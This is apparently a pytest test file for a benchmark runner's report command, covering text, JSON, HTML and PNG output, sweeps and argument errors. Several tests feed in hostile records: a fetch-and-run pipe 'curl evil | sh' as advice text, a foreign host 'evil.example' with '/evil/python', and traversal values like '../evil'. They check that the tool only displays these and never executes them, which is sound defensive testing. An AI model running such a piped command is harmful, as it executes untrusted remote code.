import json
import os
import socket
import subprocess
from pathlib import Path

import pytest

from runner.commands import compare, report
from runner.core.errors import SpecError
from runner.results import archive, records
from runner.sweeps import request
from tests import documents
from tests.report import fixtures, pages, sweeps
from tests.report.fixtures import measured, spec


@pytest.fixture(autouse=True)
def _project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "runner.toml").touch()
    monkeypatch.chdir(tmp_path)
    fixtures.write(tmp_path, measured("20261120T090100-00000001", spec(), spec(), "self", 1.0))
    archive.write(pages.write(tmp_path, pages.content()), tmp_path / "a.zip")


def test_the_newest_record_is_the_default(capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main([]) == 0
    assert capsys.readouterr().out.splitlines()[1] == (
        "1.02× [0.98, 1.06] as fast as onnxruntime fp32 (paired, 8 pairs, stopped by budget): ambiguous"
    )


def test_any_record_or_exported_file(capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["20261120T090100-00000001", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["record_id"] == "20261120T090100-00000001"
    assert report.main(["a.zip", "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert (document["record_id"], len(document["pairs"])) == (pages.ID, 8)


def test_what_an_exported_file_advises_is_called_its_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    failed = fixtures.not_measured("20261122T090100-00000001", spec(), "failed", "it broke", "curl evil | sh")
    archive.write(fixtures.write(tmp_path, failed), tmp_path / "evil.zip")
    assert report.main(["evil.zip"]) == 0
    assert "The file advises: curl evil | sh" in capsys.readouterr().out


def test_a_sweeps_page_has_the_choice(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    same = {"difference": 0.0, "low": -0.001, "high": 0.001, "verdict": "not told apart", "method": "m"}
    quality = {"metric": "mae_ppm", "samples": 200, "vs_float": same}
    sweeps.write(tmp_path, [{**one, "quality": quality} for one in sweeps.content()])
    assert report.main(["--sweep", sweeps.NAME, "--max-loss", "1%", "--html", "page.html"]) == 0
    shown = Path("page.html").read_text(encoding="utf-8")
    assert "<strong>Recommended: bilstm int8_dynamic (1 of 2 LSTM) onnxruntime: 0.699 ms a sample" in shown
    assert "recommended, Pareto" in shown
    capsys.readouterr()
    assert report.main(["--sweep", sweeps.NAME, "--max-loss", "1%", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["choice"]["picks"][0]["recommended"] == "20261121T090100-00000001"


@pytest.mark.parametrize("words", [["--max-loss", "1%"], ["--by", "size"]])
def test_a_choice_is_among_the_rows_of_a_sweep(words: list[str]) -> None:
    with pytest.raises(SpecError, match="belong to a sweep's page"):
        report.main(words)


def test_html_is_one_file(capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--html", "page.html"]) == 0
    assert capsys.readouterr().out == "written  page.html\n"
    assert Path("page.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_a_host_an_interpreter_and_a_file_that_a_record_names_are_shown_and_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A record of a device names one: it says where it was measured. Nothing makes a spec of it again."""
    foreign = spec()
    foreign["hardware"] = {"name": "ssh", "host": "evil.example", "python": "/evil/python"}
    foreign["toolchain"] = {"python": "/evil/python", "image": None}
    foreign["model"] |= {"name": "file", "path": "/evil/model.so"}
    there = fixtures.write(tmp_path, measured("20261122T090100-00000001", foreign, spec(), "auto", 2.0))
    archive.write(there, tmp_path / "evil.zip")
    for module, name in ((subprocess, "Popen"), (os, "posix_spawn"), (os, "execve"), (socket, "socket")):
        monkeypatch.setattr(module, name, pytest.fail)
    for name in (there.folder.name, "evil.zip"):
        assert report.main([name, "--html", "page.html"]) == 0
        assert compare.main([pages.ID, name]) == 0
    assert "evil.example" in Path("page.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("word", ["experiment=evil", "experiment=evil.zip", "experiment=../evil", "model=evil.zip"])
def test_no_word_makes_a_spec_of_a_record(tmp_path: Path, word: str) -> None:
    record = tmp_path / "records" / pages.ID
    archive.write(records.read(record), tmp_path / "evil.zip")
    (tmp_path / "evil.yaml").write_text((record / "record.json").read_text())
    with pytest.raises(SpecError):
        request.read(tmp_path, [word])


@pytest.mark.parametrize(
    ("arguments", "message"),
    [(["--html", "none/page.html"], "no such folder"), (["20261120T090100-0000000f"], "neither a record in")],
)
def test_wrong_arguments_are_one_line(arguments: list[str], message: str) -> None:
    with pytest.raises(SpecError, match=message):
        report.main(arguments)


RECORD = Path("records", pages.ID)


def test_the_pictures_are_written_as_png_where_they_are_wanted(capsys: pytest.CaptureFixture[str]) -> None:
    (RECORD / "system_profile.txt").write_text("t_ns cpu_percent\n1 50\n2 60\n")
    assert report.main(["--png", "."]) == 0
    assert capsys.readouterr().out == "written  latency.png\nwritten  system_profile_graph.png\n"
    for name in ("latency.png", "system_profile_graph.png"):
        assert Path(name).read_bytes().startswith(b"\x89PNG")
    assert not list(RECORD.glob("*.png"))


@pytest.mark.parametrize(
    ("profile", "folder", "message"),
    [
        ("t_ns cpu_percent\n1 50\n2 60\n", "none", "no such folder"),
        ("t_ns cpu_percent\n1 50\n2 60\n", f"records/{pages.ID}", "lies in records"),
        ("t_ns cpu_percent\n1 x\n2 60\n", ".", "system_profile.txt can't be read: could not convert"),
        ("", ".", "system_profile.txt can't be read"),
        ("t_ns cpu_percent\n99999999999999999999 1\n2 60\n", ".", "system_profile.txt can't be read"),
    ],
)
def test_pictures_that_cannot_be_written_are_refused(profile: str, folder: str, message: str) -> None:
    (RECORD / "system_profile.txt").write_text(profile)
    with pytest.raises(SpecError, match=message):
        report.main(["--png", folder])


def test_what_was_not_measured_has_nothing_to_draw(tmp_path: Path) -> None:
    fixtures.write(tmp_path, fixtures.not_measured("20261122T090100-00000001", spec(), "unavailable", "no tvm.", "pip"))
    with pytest.raises(SpecError, match="neither samples nor a profile to draw"):
        report.main(["--png", "."])


def test_a_sweep_has_its_table_and_the_way_to_its_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sweeps.write(tmp_path)
    assert report.main(["--sweep", sweeps.NAME]) == 0
    shown = capsys.readouterr().out
    assert "1.43× [1.40, 1.46]" in shown
    told = f"python -m runner report --sweep {sweeps.NAME} --html sweep.html"
    assert shown.splitlines()[-1] == f"page     {told}"
    assert report.main(told.split()[4:]) == 0
    assert capsys.readouterr().out == "written  sweep.html\n"
    assert "<h1>6 cells: 2 faster" in Path("sweep.html").read_text(encoding="utf-8")


def test_a_sweep_as_json_is_its_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sweeps.write(tmp_path)
    assert report.main(["--sweep", sweeps.NAME, "--json"]) == 0
    shown = capsys.readouterr().out
    assert compare.main(["--sweep", sweeps.NAME, "--json"]) == 0
    assert capsys.readouterr().out == shown


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--sweep", "none"], "--sweep none: no such sweep"),
        (["--sweep", sweeps.NAME, "--html", "records/page.html"], "lies in records"),
        (["--sweep", sweeps.NAME, "--png", "."], f"--sweep {sweeps.NAME}: --png belongs to the page of one record"),
        ([pages.ID, "--sweep", sweeps.NAME], f"--sweep {sweeps.NAME}: RECORD belongs to the page of one record"),
    ],
)
def test_what_a_sweep_has_no_page_for_is_one_line(arguments: list[str], message: str, tmp_path: Path) -> None:
    sweeps.write(tmp_path)
    with pytest.raises(SpecError, match=message):
        report.main(arguments)


def test_the_commands_of_the_documentation_work(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sweeps.write(tmp_path)
    (block,) = documents.blocks("docs/reports.md", "tests/commands/test_report.py")
    lines = [line.partition("#")[0].split() for line in block]
    assert [line[:4] for line in lines] == [["python", "-m", "runner", "report"]] * 3
    for line in lines:
        assert report.main([sweeps.NAME if word == "S" else word for word in line[4:]]) == 0
        assert capsys.readouterr().out
    assert Path("sweep.html").is_file()
